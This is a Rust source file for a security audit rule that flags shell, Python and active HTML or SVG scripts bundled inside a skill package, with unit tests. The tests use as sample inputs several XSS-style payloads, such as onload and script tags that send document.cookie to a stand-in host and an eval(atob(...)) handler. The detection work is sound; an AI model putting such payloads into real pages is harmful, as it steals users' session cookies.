//! A script for an interpreter of the host lies in the skill.

use crate::audit::Severity;
use crate::audit::rules::sink::Sink;
use crate::audit::rules::{Example, Rule};
use crate::audit::subject::Subject;

use super::report::{hits, report};
use super::scan::What;

pub(in crate::audit) const RULE: Rule = Rule {
    id: "PSK0416",
    name: "embedded-script",
    severity: Severity::Low,
    description: "A script for an interpreter of the host lies in the skill.",
    why: "The sandbox has no shell. A script among the files is for somebody outside to run, unaudited.",
    remedy: "Leave out what the tools do not read. Instructions for setting up belong into the documentation.",
    ast: &["AST01", "AST05"],
    cwe: &[],
    example: Example {
        bad: r#"# skill.toml
[authoring]
include = ["assets/setup.sh"]"#,
        fixed: r#"# skill.toml
[authoring]
include = ["assets/words.txt"]"#,
    },
    check,
};

fn check(subject: &Subject<'_>, sink: &mut Sink<'_>) {
    for hit in hits(subject, |what| what == What::Script) {
        let say = |what: &str, place: &str| {
            format!("{place} holds {what} for an interpreter of the host")
        };
        report(subject, sink, hit, say);
    }
}

#[cfg(test)]
mod tests {
    use crate::audit::testing::*;

    fn found(bytes: &[u8]) -> usize {
        let case = project("", &[("modules/a.wasm", RUN)]);
        case.with_asset("assets/a.bin", bytes)
            .findings("PSK0416")
            .len()
    }

    #[test]
    fn a_script_is_found() {
        assert_eq!(found(b"#!/bin/sh\necho hi\n"), 1);
        assert_eq!(found(b"#!/usr/bin/env python3\nprint()\n"), 1);
    }

    #[test]
    fn active_pages_and_pictures_are_found() {
        for page in [
            r#"<svg onload="fetch('https://a.io/'+document.cookie)"></svg>"#,
            r#"<img src=x onerror="eval(atob('YQ=='))">"#,
            "<script>new Image().src='https://a.io/?'+document.cookie</script>",
        ] {
            assert_eq!(found(page.as_bytes()), 1, "{page}");
        }
        for page in [
            r#"<svg viewBox="0 0 8 8"><path d="M0 0"/></svg>"#,
            r#"<img src="a.png" onload="resize()">"#,
            "<script>document.title = 'words'</script> sets document.cookie and location",
        ] {
            assert_eq!(found(page.as_bytes()), 0, "{page}");
        }
    }

    #[test]
    fn the_marker_alone_is_fine() {
        assert_eq!(found(b"starts with #!/bin/sh, and"), 0);
        assert_eq!(found(b"#!/bin/sh"), 0);
    }
}
